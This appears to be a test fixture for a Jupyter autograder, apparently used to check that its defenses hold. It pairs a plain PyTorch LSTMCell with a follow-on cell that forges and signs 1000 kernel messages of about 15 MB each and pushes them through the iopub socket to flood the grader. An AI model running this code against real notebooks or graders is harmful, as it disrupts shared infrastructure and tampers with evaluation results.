# ---
# assignment: speech_commands
# expect: {lstm_cell: lost}
# tries: sends signed messages of 15 MB made of millions of empty lists, each of which takes seconds to read
# evidence: opens comms or kernel sockets
# ---
# %% lstm_cell
class LSTMCell(nn.Module):
    def __init__(self, input_size, hidden_size, bias=True):
        super().__init__()
        self.hidden_size = hidden_size
        self.x2h = nn.Linear(input_size, 4 * hidden_size, bias=bias)
        self.h2h = nn.Linear(hidden_size, 4 * hidden_size, bias=bias)

    def forward(self, input, hx=None):
        if hx is None:
            hx = (input.new_zeros(len(input), self.hidden_size),) * 2
        h, c = hx
        i, f, g, o = (self.x2h(input) + self.h2h(h)).chunk(4, 1)
        cy = torch.sigmoid(f) * h + torch.sigmoid(i) * torch.tanh(g)
        return torch.sigmoid(o) * torch.tanh(cy), cy

# %% after lstm_cell
import json
kernel = get_ipython().kernel
session = kernel.session
content = b'{"data": {"application/json": [' + b"[]," * 5_000_000 + b'0]}, "metadata": {}}'
parent = json.dumps(kernel.get_parent()["header"], default=str).encode()
for number in range(1000):
    # Another header each time: messages that were signed alike are thrown away unread.
    header = json.dumps({"msg_id": str(number), "msg_type": "display_data", "date": "2026-01-01T00:00:00Z"}).encode()
    parts = [header, parent, b"{}", content]
    signature = session.sign(parts)
    kernel.iopub_socket.io_thread.send_multipart([b"<IDS|MSG>", signature, *parts], copy=False)
